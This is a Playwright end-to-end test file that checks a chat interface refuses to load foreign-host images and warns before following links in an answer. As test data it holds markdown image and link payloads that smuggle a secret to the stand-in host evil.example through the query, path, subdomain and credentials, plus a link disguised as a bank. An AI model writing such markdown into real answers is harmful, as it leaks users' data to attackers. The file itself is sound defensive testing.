"""What an answer says of other hosts: nothing is fetched, and links say where they lead."""

from playwright.async_api import Page, Request, expect

from tests.e2e.conftest import Readers
from tests.e2e.reader import Reader, Tab

SECRET = "c2VjcmV0" * 12

PICTURES = f"""!say ![a chart](https://evil.example/chart.png?d={SECRET})
![](https://evil.example/empty.png)
![odd][one] ![film](https://evil.example/film.mp4?d={SECRET})
![own](/logo) ![protocol](//evil.example/x.png) ![ftp](ftp://evil.example/x.png)

[one]: https://evil.example/reference.png

| ![cell](https://evil.example/cell.png) |
|---|
"""

LINKS = f"""!say [plain](https://example.org/a-page-with-a-long-name-that-people-can-read?q=tea)
[carrying](https://evil.example/?d={SECRET}) [path](https://evil.example/{SECRET})
[name](https://{SECRET[:50]}.evil.example/) [user](https://me:{SECRET}@evil.example/)
[www.bank.example](https://evil.example/) [mine](/work/tasks) https://example.org/auto
"""


def _watch(page: Page) -> list[str]:
    """Every address that this page asks for."""
    asked: list[str] = []

    def note(request: Request) -> None:
        asked.append(request.url)

    page.context.on("request", note)
    return asked


async def test_no_picture_of_another_host_is_loaded_by_itself(tab: Tab) -> None:
    asked = _watch(tab.page)
    answer = await tab.ask(PICTURES)
    await tab.rests()
    kept_back = answer.locator("img[data-keiko-foreign]")
    await expect(kept_back).to_have_count(5)
    first = kept_back.first
    await expect(first).to_have_attribute("alt", "a chart – picture at evil.example, not loaded")
    await expect(answer.locator("img[data-keiko-foreign][src]")).to_have_count(0)
    await expect(answer.locator("video[data-keiko-foreign]")).to_have_count(1)
    await expect(answer.locator('img[src="/logo"]')).to_have_count(1)
    await tab.page.reload()
    await expect(tab.answer.locator("img[data-keiko-foreign]")).to_have_count(5)
    assert [url for url in asked if "evil.example" in url] == []


async def test_a_picture_opens_as_a_link_once_it_is_asked_for(tab: Tab) -> None:
    answer = await tab.ask(PICTURES)
    await tab.rests()
    picture = answer.locator("img[data-keiko-foreign]").first
    await picture.focus()
    await picture.press("Enter")
    dialog = tab.page.get_by_role("dialog", name="Go to evil.example?")
    await expect(dialog).to_contain_text("takes something along")
    await expect(dialog.get_by_role("button", name="Stay here")).to_be_focused()
    await tab.page.keyboard.press("Escape")
    await expect(dialog).to_have_count(0)
    assert len(tab.page.context.pages) == 1


async def test_links_say_where_they_lead_and_take_nothing_along(tab: Tab) -> None:
    answer = await tab.ask(LINKS)
    await tab.rests()
    plain = answer.get_by_role("link", name="plain")
    await expect(plain).to_have_attribute("rel", "noopener noreferrer nofollow")
    await expect(plain).to_have_attribute("referrerpolicy", "no-referrer")
    await expect(plain).to_have_attribute("target", "_blank")
    await expect(plain).to_have_attribute("data-keiko-host", "example.org")
    bare = answer.get_by_role("link", name="https://example.org/auto")
    await expect(bare).to_have_attribute("rel", "noopener noreferrer nofollow")
    assert await bare.get_attribute("data-keiko-host") is None
    mine = answer.get_by_role("link", name="mine")
    assert await mine.get_attribute("data-keiko-host") is None


async def test_a_link_that_carries_something_away_or_misleads_is_asked_about(tab: Tab) -> None:
    answer = await tab.ask(LINKS)
    await tab.rests()
    dialog = tab.page.locator("#keiko-leaving")
    for name in ("carrying", "path", "name", "user", "www.bank.example"):
        await answer.get_by_role("link", name=name).first.click()
        await expect(dialog).to_be_visible()
        await expect(dialog).to_contain_text("evil.example")
        await dialog.get_by_role("button", name="Stay here").click()
        await expect(dialog).to_have_count(0)
    assert len(tab.page.context.pages) == 1


async def test_who_says_open_goes_there_without_a_referrer(reader: Reader) -> None:
    told: list[dict[str, str]] = []

    async def answer(route: object) -> None:
        told.append(await route.request.all_headers())  # type: ignore[attr-defined]
        await route.fulfill(body="hello", content_type="text/plain")  # type: ignore[attr-defined]

    await reader.context.route("https://evil.example/**", answer)
    tab = await reader.open()
    shown = await tab.ask(LINKS)
    await tab.rests()
    await shown.get_by_role("link", name="carrying").click()
    async with reader.context.expect_page() as opened:
        await tab.page.get_by_role("button", name="Open").click()
    page = await opened.value
    await page.wait_for_url("https://evil.example/**")
    assert await page.evaluate("[window.opener, document.referrer]") == [None, ""]
    assert [headers.get("referer") for headers in told] == [None]
    reader.problems = [p for p in reader.problems if "evil.example" not in p]


async def test_the_question_is_german_for_a_german_on_a_phone(readers: Readers) -> None:
    small = {"width": 390, "height": 780}
    reader = await readers(locale="de-DE", color_scheme="dark", viewport=small)
    tab = await reader.open()
    answer = await tab.ask(LINKS)
    await tab.rests()
    await answer.get_by_role("link", name="carrying").click()
    dialog = tab.page.get_by_role("dialog", name="Zu evil.example gehen?")
    await expect(dialog.get_by_role("button", name="Hierbleiben")).to_be_focused()
    box = await dialog.bounding_box()
    assert box is not None and box["x"] >= 0 and box["x"] + box["width"] <= 390
